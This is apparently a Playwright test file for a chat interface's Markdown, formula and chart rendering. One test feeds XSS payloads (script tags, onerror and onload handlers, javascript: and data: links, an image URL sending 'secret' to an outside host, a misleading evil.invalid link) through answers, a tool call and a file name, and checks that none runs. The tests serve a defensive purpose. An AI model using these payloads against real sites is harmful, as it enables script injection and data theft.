"""Answers as they are drawn: Markdown, code, formulas; nothing a model writes runs, or asks another host."""

import re
from typing import Final

import pytest
from playwright.async_api import expect

from penstock_testkit.vendors.reply import FakeToolCall, Reply, UntilTold
from tests.chat_page.chat_page import ChatPage
from tests.chat_page.conftest import ScriptedVendor

pytestmark = pytest.mark.asyncio(loop_scope="module")

MARKDOWN: Final = """# A title

Some **bold**, ~~struck~~ and `code`, [a link](https://example.com/x).
A second line.

| field | mean |
|:--|--:|
| current | 136.9 |

- [x] done
- [ ] open
  - inner

1. one

2. two

```python
def mean(values):  # a comment
    return "text"
```

> quoted *words*

The area is $\\pi r^2$, for $5 or US$6.

$$
x^2
$$

[ref]: https://example.com/ref
See [ref].
"""

# A text, and how many formulas are in it.
DOLLARS: Final = [
    ("$x$", 1), ("$x^2$ and $y_1$", 2), ("it is $a+b$.", 1), ("($x$)", 1), ("设$x$为", 1), ("the $n$th one", 1),
    ("\\(x\\)", 1), ("\\(a b\\) and \\(c\\)", 2), ("\\[x\\]", 1), ("$$x$$", 1), ("a $$x$$ b", 1), ("$\\frac{1}{2}$", 1),
    ("$\\$5$", 1), ("$|x|$", 1), ("$x$, $y$", 2), ("**$x$**", 1), ("- $x$", 1), ("$10^3$", 1), ("$2n+1$", 1),
    ("$5", 0), ("$5 and $6", 0), ("$2bn to $4bn", 0), ("US$5", 0), ("$100-$200", 0), ("$AAPL", 0), ("$AAPL/$MSFT", 0),
    ("$5, $6, $7, $8", 0), ("US$5 or A$6", 0), ("5$ or 6$", 0), ("$ x $", 0), ("$x $", 0), ("$ x$", 0), ("`$x$`", 0),
    ("```\n$x$\n```", 0), ("$20 now or 30$ later", 0), ("$HOME and $PATH", 0), ("$", 0), ("$$", 0), ("\\$x\\$", 0),
    ("costs $1,000.50 or $2", 0), ("pay $5/month, $50/year", 0), ("$a\n\nb$", 0),
]  # fmt: skip

_RENDER: Final = """async ([text, grown]) => {
    const {Rendering} = await import("/static/markdown.js");
    const box = document.createElement("div");
    const rendering = new Rendering(box);
    if (grown) for (let end = 1; end <= text.length; end += 1) rendering.update(text.slice(0, end));
    rendering.update(text, true);
    for (const each of box.querySelectorAll(".formula")) each.replaceChildren("formula");
    for (const each of box.querySelectorAll(".formula[title]")) each.removeAttribute("title");
    box.normalize();
    return box.innerHTML;
}"""

ATTACKS: Final = (
    "<script>window.hit = 1</script>",
    '<iframe srcdoc="<script>parent.hit = 1</script>"></iframe>',
    '<img src=x onerror="window.hit = 1">',
    "![a](https://elsewhere.invalid/?q=secret)",
    "[click](javascript:window.hit=1)",
    "[click](JaVaScRiPt:window.hit=1)",
    "[data](data:text/html,<script>window.hit=1</script>)",
    "<javascript:window.hit=1>",
    '[t](https://a.invalid "onmouseover=window.hit=1")',
    "$\\href{javascript:window.hit=1}{x}$ $\\includegraphics{https://elsewhere.invalid/x.png}$",
    "<svg onload=window.hit=1>",
    "[https://bank.example](https://evil.invalid)",
    "<style>@import url(https://elsewhere.invalid)</style>",
)


async def test_dollars_are_formulas_or_money_wherever_the_text_is_cut(chat: ChatPage) -> None:
    for text, formulas in DOLLARS:
        whole = await chat.page.evaluate(_RENDER, [text, False])
        assert whole.count('class="formula') == formulas, (text, whole)
        assert await chat.page.evaluate(_RENDER, [text, True]) == whole, text


async def test_markdown_that_grows_by_a_character_ends_as_markdown_that_comes_at_once(chat: ChatPage) -> None:
    whole = await chat.page.evaluate(_RENDER, [MARKDOWN, False])
    assert await chat.page.evaluate(_RENDER, [MARKDOWN, True]) == whole
    for part in (
        "<table>",
        "<del>struck</del>",
        'type="checkbox"',
        "hl-keyword",
        "<blockquote>",
        "(example.com)",
        "<br>",
    ):
        assert part in whole, part


async def test_a_formula_becomes_mathml_and_code_can_be_copied(chat: ChatPage, vendor: ScriptedVendor) -> None:
    vendor.replies["markdown please"] = Reply(chunks=(MARKDOWN,))
    await chat.ask_and_wait("markdown please")
    await expect(chat.answer.locator("math")).to_have_count(2)
    await chat.answer.locator(".code button").click()
    await chat.copied('def mean(values):  # a comment\n    return "text"')
    await chat.answers.last.locator(".actions button").first.click()
    await chat.copied(MARKDOWN)


async def test_what_a_model_writes_runs_nothing_and_asks_nobody(chat: ChatPage, vendor: ScriptedVendor) -> None:
    attack = "\n\n".join(ATTACKS)
    call = FakeToolCall(name="list_devices", arguments='{"x": "<img src=x onerror=window.hit=1>"}')
    vendor.replies[attack] = Reply(tool_calls=[call], finish_reason="tool_calls")
    vendor.replies[f"after tools: {attack}"] = Reply(chunks=(attack,), thinking=(attack,))
    await chat.page.set_input_files(
        "#file", {"name": "<img src=x onerror=window.hit=1>.txt", "mimeType": "text/plain", "buffer": b"<script>"}
    )
    await chat.page.locator("#files button").click()
    await chat.ask_and_wait(attack)
    await expect(chat.answer.locator(".formula")).to_have_count(2)
    await chat.page.reload()
    await chat.ended()
    assert await chat.page.evaluate("window.hit") is None
    assert await chat.page.locator("article img, article iframe, article script, article style").count() == 0
    links = await chat.answer.locator("a").evaluate_all("(all) => all.map((each) => each.href)")
    assert all(link.startswith(("https://", "mailto:")) for link in links), links
    await expect(chat.answer).to_contain_text("https://bank.example (evil.invalid)")


async def test_of_this_hosts_places_only_the_form_of_an_alarm_is_a_link(chat: ChatPage) -> None:
    async def links(text: str) -> list[str]:
        return re.findall(r'href="([^"]*)"', str(await chat.page.evaluate(_RENDER, [text, False])))

    assert await links("[make it](/dashboard#alarm=%7B%7D)") == ["/dashboard#alarm=%7B%7D"]
    for place in ("/dashboard", "/docs", "//evil.invalid/dashboard#alarm=1", "/api/v2/auth/logout", "#alarm=1"):
        assert await links(f"[make it]({place})") == [], place
    assert await links("![make it](/dashboard#alarm=%7B%7D)") == []


async def test_a_finished_block_is_never_touched_again(chat: ChatPage) -> None:
    kept = await chat.page.evaluate("""async () => {
        const {Rendering} = await import("/static/markdown.js");
        const box = document.createElement("div");
        const rendering = new Rendering(box);
        let text = "first\\n\\nsecond\\n\\nthird\\n";
        rendering.update(text);
        const [first, second] = box.children;
        for (let more = 0; more < 200; more += 1) rendering.update(text += ` word${more}`);
        rendering.update(text, true);
        return box.children[0] === first && box.children[1] === second;
    }""")
    assert kept


async def test_the_work_for_an_answer_grows_with_its_length_and_not_with_its_square(chat: ChatPage) -> None:
    """Counted are the nodes that are put into the page, and not how long that takes."""
    block = "Some **words** and `code` in a paragraph of an answer. " * 8 + "\n\n- one\n- two\n\n"
    drawn, kept = await chat.page.evaluate(
        """async (text) => {
            const {Rendering} = await import("/static/markdown.js");
            const box = document.createElement("div");
            const count = (node) => 1 + (node.querySelectorAll?.("*").length ?? 0);
            const observer = new MutationObserver(() => {});
            observer.observe(box, {childList: true, subtree: true});
            const rendering = new Rendering(box);
            let drawn = 0;
            for (let end = 100; end < text.length + 100; end += 100) {
                rendering.update(text.slice(0, end), end >= text.length);
                for (const {addedNodes} of observer.takeRecords()) for (const node of addedNodes) drawn += count(node);
            }
            return [drawn, count(box)];
        }""",
        block * (100_000 // len(block)),
    )
    # Some of the last blocks are drawn again; all of them each time would be five hundred times what is kept.
    assert kept <= drawn < 50 * kept, (drawn, kept)


async def test_a_long_fast_answer_is_shown_whole(chat: ChatPage, vendor: ScriptedVendor) -> None:
    block = "Some **words** and `code` in a paragraph of an answer. " * 8 + "\n\n- one\n- two\n\n"
    text = block * (100_000 // len(block))
    pieces = tuple(text[at : at + 100] for at in range(0, len(text), 100))
    vendor.replies["a long answer"] = Reply(chunks=pieces, chunk_delay=0.001)
    await chat.ask_and_wait("a long answer")
    await expect(chat.answer.locator("li")).to_have_count(2 * text.count("- one"))


async def test_a_reader_who_scrolls_up_by_a_notch_stays_there(chat: ChatPage, vendor: ScriptedVendor) -> None:
    pieces = UntilTold("\n\nline ")
    vendor.replies["a scrolling answer"] = Reply(chunks=pieces, chunk_delay=0.02)
    await chat.ask("a scrolling answer")
    await expect(chat.answer).to_contain_text("line 60")
    await chat.page.hover("#messages")
    await chat.page.mouse.wheel(0, -60)
    await expect(chat.page.locator("#latest")).to_be_visible()
    place, seen = await chat.scrolled(), await chat.answer.locator("p").count()
    await expect(chat.answer.locator("p").nth(seen + 5)).to_be_attached()
    pieces.told = True
    await chat.ended()
    assert await chat.scrolled() == place
    await chat.page.click("#latest")
    await expect(chat.answer.locator("p").last).to_be_in_viewport()


async def test_an_answer_about_a_device_has_a_chart_and_its_table(chat: ChatPage, vendor: ScriptedVendor) -> None:
    call = FakeToolCall(
        name="device_query", arguments='{"device_code": "WLD001", "fields": ["current"], "interval": "1m", "limit": 30}'
    )
    vendor.replies["chart the rows"] = Reply(tool_calls=[call], finish_reason="tool_calls")
    vendor.replies["after tools: chart the rows"] = Reply(chunks=("Here it is.",))
    await chat.ask_and_wait("chart the rows")
    await expect(chat.page.locator(".chart svg path.line")).to_have_count(1)
    await chat.page.locator(".chart summary").click()
    await expect(chat.page.locator(".chart tbody tr")).to_have_count(30)


async def test_statistics_are_drawn_as_the_course_of_their_range(chat: ChatPage, vendor: ScriptedVendor) -> None:
    call = FakeToolCall(name="device_statistics", arguments='{"device_code": "WLD001"}')
    vendor.replies["chart the current"] = Reply(tool_calls=[call], finish_reason="tool_calls")
    vendor.replies["after tools: chart the current"] = Reply(chunks=("Here it is.",))
    await chat.ask_and_wait("chart the current")
    await expect(chat.page.locator(".chart")).to_have_count(1)
    await expect(chat.page.locator(".chart figcaption")).to_contain_text("WLD001 · current (A)")
    await chat.page.reload()
    await expect(chat.page.locator(".chart figcaption")).to_contain_text("WLD001 · current (A)")
